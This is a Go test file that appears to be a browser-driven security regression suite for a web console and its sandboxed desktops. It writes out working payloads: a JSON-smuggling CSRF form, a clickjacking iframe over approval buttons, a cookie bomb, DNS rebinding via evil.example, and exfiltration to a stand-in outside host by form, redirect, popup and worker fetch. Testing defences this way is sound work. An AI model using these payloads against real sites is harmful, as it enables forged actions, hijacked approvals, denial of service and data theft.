package attack_test

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/textproto"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"choir.dev/choiros/contract"
	"choir.dev/choiros/internal/defence"
)

// browserRows are attacks that only a real browser can show: whether it obeys our answers. The
// control plane is the real one. The computer is played, since it has to be worse than a real one
// can be made.
var browserRows = []Row{
	withBrowser(20, "somebody's DNS points their name at our port (rebinding)", func(t *testing.T, v *visitor) Verdict {
		v.open(t, fmt.Sprintf("http://evil.example:%d/claim", v.port))
		got := v.eval(t, "location.host + ' ' + !!document.getElementById('go')")
		return Verdict{strings.HasSuffix(got, " true"), got}
	}, defence.ControlHost),
	withBrowser(20, "another desktop's page opens this one's socket to the dev server, with the user's cookie", func(t *testing.T, v *visitor) Verdict {
		// This page is of the same site, so that the cookie is sent with its requests.
		other, ticket := v.ticket(t, string(v.other.cid))
		h := origin(v.console, "same-site", "navigate", "iframe")
		h.Set("Content-Type", "application/x-www-form-urlencoded")
		v.given[other] = v.ask(t, "POST", other+"/_choir/enter", "ticket="+ticket, h).Cookies()[0]
		v.signedIn(t)
		got := v.desktopRuns(t, fmt.Sprintf(`try { const s = new WebSocket(%q, 'vite-hmr'); s.onopen = s.onerror = () => said('ended') } catch { said('refused') }`, strings.Replace(other, "http", "ws", 1)+"/"), nil, "")
		return Verdict{v.other.asked() > 0, got}
	}, defence.ControlPolicy, defence.ControlOrigin), // for a WebSocket, a browser does not send the site
	withBrowser(24, "a foreign page starts a run with the user's cookie", func(t *testing.T, v *visitor) Verdict {
		// A form's text is JSON if the name and the value of its one field are chosen so.
		v.foreign(t, fmt.Sprintf(`<form method=post enctype=text/plain action=%q><input name='{"id":"%s","text":"' value='"}'></form>`,
			v.console+"/api/computers/"+string(v.mine.cid)+"/prompts", contract.NewID()))
		v.leave(t, "document.querySelector('form').submit()")
		return Verdict{v.mine.acted() > 0, v.eval(t, "document.body.innerText")}
	}, defence.ControlOrigin, defence.ControlFetchSite, defence.ControlSameSite, defence.ControlBodies),
	withBrowser(24, "a foreign page signs the user in to a desktop with a ticket of its own", func(t *testing.T, v *visitor) Verdict {
		_, ticket := v.ticket(t, string(v.mine.cid))
		if err := v.Call(v.ctx, "Network.clearBrowserCookies", nil, nil); err != nil {
			t.Fatal(err)
		}
		v.foreign(t, fmt.Sprintf(`<form method=post action=%q><input name=ticket value=%q></form>`, v.desktop+"/_choir/enter", ticket))
		v.leave(t, "document.querySelector('form').submit()")
		all, err := v.Cookies(v.ctx, v.desktop)
		if err != nil {
			t.Fatal(err)
		}
		return Verdict{len(all) > 0, fmt.Sprint(all, v.eval(t, "document.body.innerText"))}
	}, defence.ControlEnter),
	withBrowser(28, "a desktop's page lays the console unseen under the user's clicks, and has a host allowed", clickJacked,
		defence.ControlPolicy, defence.ControlAncestors, defence.ControlFrameOptions),

	withBrowser(22, "a desktop's page sends data out with a form", leaves(
		`addEventListener('securitypolicyviolation', () => said('refused')); const f = document.createElement('form'); f.action = 'OUT/secret'; f.method = 'post'; document.body.append(f); f.submit()`, nil),
		defence.ControlPolicy, defence.ControlFrames),
	withBrowser(22, "a desktop's page leaves with data in the address it goes to", leaves(`location.href = 'OUT/secret'`, nil), defence.ControlFrames),
	withBrowser(22, "a desktop's page opens a window elsewhere, in a frame that forgot to say that it may not", popup, defence.ControlSandbox),
	withBrowser(22, "a desktop's page sends the console so many cookies, for a year, that it answers nothing any more", func(t *testing.T, v *visitor) Verdict {
		// The frame that sets the cookies loses its session as well, so it tells the console's page
		// when it is done.
		v.desktopRuns(t, `for (let i = 0; i < 170; i++) document.cookie = 'c' + i + '=' + 'A'.repeat(4000) + '; Domain=choir.localhost; Max-Age=31536000; Path=' + (i % 3 ? '/' : '/api')
			setInterval(() => parent.postMessage('cookies are set', '*'), 50)`, nil,
			`(window.hears ??= (addEventListener('message', (e) => { window.set ||= e.data === 'cookies are set' }), true)) && !!window.set`)
		v.open(t, v.console+"/claim") // no desktop is shown here, which would set the cookies again
		first := v.eval(t, "fetch('/api/account').then((r) => r.status)")
		all, err := v.Cookies(v.ctx, v.console+"/api/account")
		if err != nil {
			t.Fatal(err)
		}
		return Verdict{first != "200" || len(all) > 1, fmt.Sprint(first, ", and then it has ", len(all), " cookies")}
	}, defence.ControlCookies),
	withBrowser(24, "the dev server redirects a script elsewhere, with data in the address", leaves(
		`const s = document.createElement('script'); s.onload = s.onerror = () => said('refused'); s.src = '/src/away.js'; document.head.append(s)`,
		map[string]served{"/src/away.js": {http.StatusFound, http.Header{"Location": {"OUT/secret"}}, ""}}),
		defence.ControlPolicy, defence.ControlRedirects, defence.ControlHeaders, defence.BoxHeadersApart),
	withBrowser(44, "a 103 of the dev server wipes the policy of a worker's script, which then sends data out", func(t *testing.T, v *visitor) Verdict {
		v.mine.early = textproto.MIMEHeader{"Link": {"<" + v.outside.url + "/preload>; rel=preload; as=script"}}
		got := v.desktopRuns(t, `const w = new Worker('/src/worker.js'); w.onmessage = (e) => said(e.data); w.onerror = () => said('failed')`, map[string]served{
			"/src/worker.js": {200, http.Header{"Content-Type": {"text/javascript"}}, `fetch('OUT/secret', {mode: 'no-cors'}).then(() => postMessage('sent'), () => postMessage('refused'))`}}, "")
		return Verdict{got == "outside", got}
	}, defence.BoxHeadersApart),
}

// leaves runs a desktop's page that tries to reach the outside site.
func leaves(script string, files map[string]served) func(*testing.T, *visitor) Verdict {
	return func(t *testing.T, v *visitor) Verdict {
		mine := map[string]served{}
		for name, f := range files {
			f.header = f.header.Clone()
			for key, values := range f.header {
				f.header[key] = []string{v.outside.in(values[0])}
			}
			mine[name] = f
		}
		if err := v.Call(v.ctx, "Page.enable", nil, nil); err != nil {
			t.Fatal(err)
		}
		// This listens in every page of the tab, because the console's own policy may be what
		// refuses its frame.
		if err := v.Call(v.ctx, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": `addEventListener('securitypolicyviolation', (e) => { window.violated = e.effectiveDirective })`}, nil); err != nil {
			t.Fatal(err)
		}
		got := v.desktopRuns(t, script, mine, "window.violated === 'frame-src'")
		return Verdict{got == "outside", fmt.Sprint(got, " ", v.outside.seen())}
	}
}

// popup clicks in a desktop whose page opens a window at every click. The console's frame forbids
// that as well, so here its attribute is left out.
func popup(t *testing.T, v *visitor) Verdict {
	v.serve(t, script{"assets/stage.js", "frame.sandbox.add(", "void ("})
	// If a busy browser does not count a click as its user's, the click opens nothing either.
	v.desktopIs(`let no = 0; addEventListener('pointerdown', () => { if (!open('OUT/secret') && ++no === 5) said('refused') }); parent.postMessage({type: 'choir.painted', mode: 'live'}, '*')`, nil)
	v.open(t, v.console+"/")
	if err := v.Until(v.ctx, `!!document.querySelector('iframe[data-role=shown]')`); err != nil {
		t.Fatal(err)
	}
	for len(v.outside.seen()) == 0 && !said(v, "refused") {
		if err := v.Click(v.ctx, 600, 500); err != nil {
			t.Fatal(err)
		}
		select {
		case <-v.ctx.Done():
			t.Fatal("no click reached the desktop")
		case <-time.After(50 * time.Millisecond):
		}
	}
	return Verdict{len(v.outside.seen()) > 0, fmt.Sprint(v.outside.seen())}
}

func said(v *visitor, word string) bool {
	for _, p := range v.mine.askedPaths() {
		if p == "/src/said-"+word+".js" {
			return true
		}
	}
	return false
}

// replaced is a file system with some files replaced.
type replaced struct {
	fs.FS
	with fstest.MapFS
}

func (r replaced) Open(name string) (fs.File, error) {
	if _, ok := r.with[name]; ok {
		return r.with.Open(name)
	}
	return r.FS.Open(name)
}

// clickJacked finds out where the console has the bell and the button that allows an act, lays an
// invisible console over the desktop's page, and makes the user click there twice. (The desktop is
// of the console's site, so its frame has the console's cookie, which that of another site would
// not.)
func clickJacked(t *testing.T, v *visitor) Verdict {
	v.desktopIs(`parent.postMessage({type: 'choir.painted', mode: 'live'}, '*')`, nil)
	v.open(t, v.console+"/")
	place := func(selector string) (x, y float64) {
		t.Helper()
		look := fmt.Sprintf(`(() => { const r = document.querySelector(%q)?.getClientRects()[0]; return r ? [r.x + r.width / 2, r.y + r.height / 2] : null })()`, selector)
		if err := v.Until(v.ctx, look+" !== null"); err != nil {
			t.Fatal(err)
		}
		var at []float64
		var raw json.RawMessage
		if err := v.Evaluate(v.ctx, look, false, &raw); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(raw, &at); err != nil || len(at) != 2 {
			t.Fatalf("%s is at %s", selector, raw)
		}
		return at[0], at[1]
	}
	if err := v.Until(v.ctx, "!document.getElementById('bell-count').hidden"); err != nil {
		t.Fatal(err)
	}
	bellX, bellY := place("#bell")
	v.eval(t, "document.getElementById('bell').click()")
	allowX, allowY := place("#approvals-list button[data-answer=once]")
	shown := v.files.opened("assets/frame.js")
	// The console shows this desktop, which shows the console in a frame.
	if got := v.desktopRuns(t, fmt.Sprintf(`document.body.style.margin = 0
		const f = document.createElement('iframe')
		f.style.cssText = 'position:fixed;inset:0;width:1280px;height:800px;border:0;opacity:0.01'
		f.onload = () => { said('loaded'); parent.postMessage({type: 'choir.painted', mode: 'live'}, '*') }
		f.src = %q
		document.body.append(f)`, v.console+"/"), nil, ""); got != "loaded" {
		t.Fatal(got)
	}
	// A frame that was refused has loaded none of the console's files.
	if v.files.opened("assets/frame.js") == shown+1 {
		return Verdict{false, "the console did not show in the frame"}
	}
	var stage []float64
	if err := v.Until(v.ctx, "!!document.querySelector('iframe[data-role=shown]')"); err != nil {
		t.Fatal(err)
	}
	if err := v.Evaluate(v.ctx, "(() => { const r = document.querySelector('iframe[data-role=shown]').getBoundingClientRect(); return [r.x, r.y] })()", false, &stage); err != nil {
		t.Fatal(err)
	}
	for {
		for _, at := range [][2]float64{{bellX, bellY}, {allowX, allowY}} {
			if err := v.Click(v.ctx, stage[0]+at[0], stage[1]+at[1]); err != nil {
				t.Fatal(err)
			}
		}
		if d := v.mine.decisions(); len(d) > 0 {
			return Verdict{d[0].Answer == contract.ApprovalOnce, fmt.Sprint(d)}
		}
		select {
		case <-v.ctx.Done():
			t.Fatal("the console shows in the frame, and no click reaches it")
		case <-time.After(100 * time.Millisecond):
		}
	}
}
